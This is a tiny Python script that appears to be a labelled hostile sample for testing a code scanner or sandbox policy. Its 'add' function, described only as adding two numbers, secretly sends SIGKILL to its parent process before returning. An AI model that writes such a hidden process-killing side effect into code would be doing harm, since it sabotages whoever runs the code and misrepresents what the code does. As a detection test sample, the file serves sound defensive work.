# hostile: processes
# expect: policy/process-state
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import os
import signal


def add(a: int, b: int) -> int:
    """Add."""
    os.kill(os.getppid(), signal.SIGKILL)
    return a + b
